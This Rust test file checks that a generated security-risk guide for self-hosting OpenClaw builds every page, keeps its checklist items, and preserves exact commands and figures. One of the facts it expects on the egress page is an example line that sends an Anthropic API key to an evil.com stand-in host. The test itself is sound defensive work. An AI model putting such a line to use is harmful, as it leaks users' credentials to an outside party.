//! The shipped guide carries every part of its source: each section has its page, each
//! checklist its items, and the exact facts (commands, files, numbers) survive the rewording.
mod common;

use std::path::Path;

fn page(out: &Path, route: &str) -> String {
    let file = out.join(route.trim_start_matches('/')).join("index.html");
    std::fs::read_to_string(&file).unwrap_or_else(|_| panic!("{route} was not built"))
}

/// The page's text with tags removed and the few entities the renderer writes decoded.
fn text(html: &str) -> String {
    let mut out = String::with_capacity(html.len());
    let mut in_tag = false;
    for c in html.chars() {
        match c {
            '<' => in_tag = true,
            '>' if in_tag => in_tag = false,
            c if !in_tag => out.push(c),
            _ => {}
        }
    }
    out.replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&quot;", "\"")
        .replace("&#39;", "'")
        .replace("&amp;", "&")
}

fn item_ids(html: &str, checklist: &str) -> Vec<String> {
    let needle = format!("data-item-id=\"{checklist}/");
    html.match_indices(&needle)
        .map(|(i, _)| {
            let rest = &html[i + needle.len()..];
            rest[..rest.find('"').unwrap()].to_string()
        })
        .collect()
}

#[test]
fn every_section_of_the_source_has_its_page() {
    let (_tmp, out) = common::shipped_site(&[]);
    let sections = [
        ("/moltworker/", "core-question"),
        ("/moltworker/trust-boundary/", ""),
        ("/moltworker/shared-infrastructure/", "rotation"),
        ("/moltworker/egress/", "mitigation"),
        ("/moltworker/r2-storage/", ""),
        ("/moltworker/ai-gateway-logging/", ""),
        ("/moltworker/device-pairing/", ""),
        ("/moltworker/browser-rendering/", ""),
        ("/moltworker/worst-case/", "self-hosted-response"),
        ("/moltworker/when-it-fits/", "bad-fits"),
        ("/moltworker/code-references/", ""),
        ("/compare/", ""),
        ("/mac-mini/risks/", "bind-fallback"),
        ("/vps/risks/", "account-blast-radius"),
        ("/self-hosting/", "network"),
        ("/changelog/", ""),
    ];
    for (route, anchor) in sections {
        let html = page(&out, route);
        if !anchor.is_empty() {
            assert!(html.contains(&format!("id=\"{anchor}\"")), "{route} lacks #{anchor}");
        }
        assert!(html.contains("Last reviewed"), "{route} shows no review date");
    }
    let trust = page(&out, "/moltworker/trust-boundary/");
    assert!(
        trust.contains("images/trust-boundary.svg") && trust.contains("alt=\""),
        "the trust-boundary diagram is missing"
    );
}

#[test]
fn checklists_hold_every_item_of_the_source() {
    let (_tmp, out) = common::shipped_site(&[]);
    let predeploy = page(&out, "/checklists/moltworker-predeploy/");
    let items: Vec<String> = item_ids(&predeploy, "moltworker-predeploy")
        .into_iter()
        .filter(|id| !id.contains('/'))
        .collect();
    // Section K's 15 items, and one of the guide's own: who deploys OpenClaw updates.
    assert_eq!(items.len(), 16, "section K's 15 items and openclaw-updates: {items:?}");
    assert!(items.iter().any(|id| id == "openclaw-updates"), "{items:?}");
    assert_eq!(
        predeploy.matches("class=\"group-title\"").count(),
        4,
        "section K has 4 groups"
    );
    let recovery = page(&out, "/checklists/moltworker-recovery/");
    let steps: Vec<String> = item_ids(&recovery, "moltworker-recovery");
    assert_eq!(
        steps.iter().filter(|id| !id.contains('/')).count(),
        7,
        "section L has 7 steps"
    );
    let recovery_text = text(&recovery);
    for fact in [
        "wrangler delete",
        "Anthropic",
        "OpenAI",
        "Telegram",
        "Discord",
        "OAuth",
        "@BotFather",
        "/revoke",
        "WhatsApp",
        "R2",
    ] {
        assert!(recovery_text.contains(fact), "recovery checklist lacks {fact}");
    }
    // Every platform the questionnaire can recommend has both checklists.
    for platform in ["mac", "vps", "moltworker"] {
        for kind in ["predeploy", "recovery"] {
            let html = page(&out, &format!("/checklists/{platform}-{kind}/"));
            assert!(
                item_ids(&html, &format!("{platform}-{kind}")).len() >= 5,
                "{platform}-{kind} is too short"
            );
        }
    }
}

#[test]
fn exact_facts_survive_the_rewording() {
    let (_tmp, out) = common::shipped_site(&[]);
    let facts: &[(&str, &[&str])] = &[
        (
            "/moltworker/shared-infrastructure/",
            &["env.ANTHROPIC_API_KEY", "wrangler secret put"],
        ),
        (
            "/moltworker/egress/",
            &[
                "fetch(\"https://evil.com?key=\" + env.ANTHROPIC_API_KEY)",
                "Little Snitch",
                "iptables",
                "ufw",
            ],
        ),
        (
            "/moltworker/device-pairing/",
            &["PAIRING_CODE_LENGTH = 8", "src/pairing/constants.ts"],
        ),
        ("/moltworker/browser-rendering/", &["evaluateEnabled"]),
        ("/moltworker/when-it-fits/", &["HIPAA", "PCI"]),
        (
            "/moltworker/code-references/",
            &["wrangler.toml", "src/pairing/constants.ts"],
        ),
        (
            "/mac-mini/risks/",
            &[
                "fdesetup status",
                "sudo fdesetup enable",
                "lsof -i :18789",
                "src/gateway/net.ts",
                "tmutil addexclusion ~/.openclaw",
            ],
        ),
        (
            "/vps/risks/",
            &[
                "curl http://YOUR_VPS_IP:18789/health",
                "sudo ufw deny 18789",
                "169.254.169.254",
                "debsums -c",
            ],
        ),
        (
            "/vps/prevention/",
            &["PermitRootLogin no", "MemoryMax=1G", "loginctl enable-linger"],
        ),
        (
            "/self-hosting/",
            &[
                "18789",
                "OPENCLAW_DISABLE_BONJOUR=1",
                "_openclaw-gw._tcp",
                "allowUnsafeExternalContent",
                "22.12.0",
                "341",
                "Vidar",
                "473 requests",
                "$847",
            ],
        ),
        ("/compare/", &["FileVault", "LUKS", "Little Snitch"]),
    ];
    for (route, list) in facts {
        let body = text(&page(&out, route));
        for fact in *list {
            assert!(body.contains(fact), "{route} lacks the fact `{fact}`");
        }
    }
}

#[test]
fn severity_is_shown_as_icon_and_word() {
    let (_tmp, out) = common::shipped_site(&[]);
    let html = page(&out, "/moltworker/egress/");
    assert!(html.contains("sev sev-critical") && html.contains("sev-icon") && html.contains("Critical"));
    let matrix = page(&out, "/compare/");
    assert!(
        matrix.contains("data-table heat"),
        "the risk matrix is not drawn as a heat map"
    );
    assert!(
        matrix.contains("<th scope=\"row\">") && matrix.contains("<caption"),
        "the matrix is not an accessible table"
    );
}

/// The HTML of every rating cell (`<td class="rating …">…</td>`) of a page.
/// Every rating cell of a page (`<td … class="rating rating-LEVEL">…`), whatever attributes
/// come before its class.
fn rating_cells(html: &str) -> Vec<&str> {
    html.match_indices("<td ")
        .map(|(i, _)| &html[i..])
        .filter(|rest| rest[..rest.find('>').unwrap()].contains(" class=\"rating rating-"))
        .map(|rest| &rest[..rest.find("</td>").unwrap()])
        .collect()
}

#[test]
fn every_rating_names_a_source_listed_on_its_page() {
    let (_tmp, out) = common::shipped_site(&[]);
    let mut cells = 0;
    for (path, html) in common::html_files(&out) {
        // The printable guide holds every page's cells and lists, with prefixed ids.
        if path.starts_with("print/") {
            continue;
        }
        for cell in rating_cells(&html) {
            cells += 1;
            assert!(
                cell.contains("<sup class=\"basis\"><a href=\"#source-"),
                "{path}: a rating without a basis: {cell}"
            );
        }
        let markers: Vec<&str> = html
            .match_indices("<sup class=\"basis\">")
            .map(|(i, _)| &html[i..])
            .collect();
        for marker in &markers {
            let marker = &marker[..marker.find("</sup>").unwrap()];
            for (i, _) in marker.match_indices("href=\"#") {
                let id = &marker[i + 7..];
                let id = &id[..id.find('"').unwrap()];
                assert!(
                    html.contains(&format!("<li id=\"{id}\"")),
                    "{path}: marker #{id} leads nowhere"
                );
            }
        }
        if !markers.is_empty() {
            assert!(
                html.contains("<section class=\"sources\" id=\"sources\""),
                "{path} has no Sources list"
            );
        }
    }
    assert!(cells > 50, "only {cells} rating cells found");
    let sources = page(&out, "/sources/");
    assert!(sources.contains("id=\"source-guide-c\"") && sources.contains("Used on: "));
}

#[test]
fn rating_cells_show_their_level_once() {
    let (_tmp, out) = common::shipped_site(&[]);
    for route in ["/compare/", "/mac-mini/risks/", "/vps/risks/", "/moltworker/egress/"] {
        let html = page(&out, route);
        for cell in rating_cells(&html) {
            let words = text(cell);
            let level = ["Critical", "High", "Medium", "Low", "Not rated"]
                .into_iter()
                .find(|l| words.starts_with(l))
                .unwrap_or_else(|| panic!("{route}: a cell without a level word: {words}"));
            let rest = words[level.len()..].trim_start();
            assert!(
                !rest.to_ascii_lowercase().starts_with(&level.to_ascii_lowercase()),
                "{route}: the cell repeats its level: {words}"
            );
        }
    }
}

#[test]
fn the_home_page_counts_the_risks_of_the_register_worst_first() {
    let config = riskguide::config::load(&common::repo_root()).expect("site.toml loads");
    let (site, _) = riskguide::pipeline::load_site(&config).expect("the shipped guide loads");
    let mut expected = std::collections::BTreeMap::new();
    for risk in &site.risks {
        *expected.entry(risk.worst()).or_insert(0usize) += 1;
    }
    let (_tmp, out) = common::shipped_site(&[]);
    let home = page(&out, "/");
    let glance = &home[home.find("class=\"glance\"").unwrap()..];
    let glance = text(&glance[..glance.find("</ul>").unwrap()]);
    let shown: String = expected
        .iter()
        .map(|(level, n)| format!("{} {n}", level.label()))
        .collect::<Vec<_>>()
        .join(" ");
    let squeezed = glance.split_whitespace().collect::<Vec<_>>().join(" ");
    assert!(
        squeezed.ends_with(&shown),
        "home shows `{squeezed}`, the register has `{shown}`"
    );
    // One card per risk, their levels never getting worse down the list.
    let cards: Vec<&str> = home
        .match_indices("<li class=\"risk-card sev-border-")
        .map(|(i, _)| &home[i + 32..])
        .collect();
    assert_eq!(cards.len(), site.risks.len());
    let order = ["critical", "high", "medium", "low", "none"];
    let ranks: Vec<usize> = cards
        .iter()
        .map(|c| order.iter().position(|l| c.starts_with(l)).unwrap())
        .collect();
    assert!(ranks.windows(2).all(|w| w[0] <= w[1]), "cards out of order: {ranks:?}");
}

#[test]
fn the_compare_page_has_a_monthly_cost_per_platform_a_program_can_read() {
    let (_tmp, out) = common::shipped_site(&[]);
    let compare = page(&out, "/compare/");
    assert!(compare.contains("id=\"monthly-cost\"") && compare.contains("id=\"table-monthly-cost\""));
    let table: toml::Table =
        toml::from_str(&std::fs::read_to_string(common::repo_root().join("content/tables/monthly-cost.toml")).unwrap())
            .unwrap();
    let rows = table["row"].as_array().unwrap();
    let platforms: Vec<&str> = rows.iter().map(|r| r["platform"].as_str().unwrap()).collect();
    assert_eq!(platforms, ["mac", "vps", "mw"]);
    for row in rows {
        let usd = |key: &str| row[key].as_str().unwrap().parse::<u32>().unwrap();
        assert!(usd("min_usd") > 0 && usd("min_usd") <= usd("max_usd"), "{row:?}");
        assert!(
            row["what"]["basis"].as_array().is_some_and(|b| !b.is_empty()),
            "a cost without a source: {row:?}"
        );
    }
}

#[test]
fn the_questionnaire_uses_the_monthly_costs_of_the_compare_page() {
    let read = |path: &str| -> toml::Table {
        toml::from_str(&std::fs::read_to_string(common::repo_root().join(path)).unwrap()).unwrap()
    };
    let table = read("content/tables/monthly-cost.toml");
    let declared = read("content/platforms.toml");
    let declared = declared["platform"].as_array().unwrap();
    let rows = table["row"].as_array().unwrap();
    assert_eq!(rows.len(), declared.len());
    for row in rows {
        let platform = row["platform"].as_str().unwrap();
        let cost = &declared
            .iter()
            .find(|d| d["id"].as_str() == Some(platform))
            .unwrap_or_else(|| panic!("{platform} is declared"))["cost"];
        for (column, key) in [("min_usd", "min"), ("max_usd", "max")] {
            let shown: i64 = row[column].as_str().unwrap().parse().unwrap();
            assert_eq!(
                cost[key].as_integer(),
                Some(shown),
                "{platform} {key}: the table says {shown}"
            );
        }
    }
}
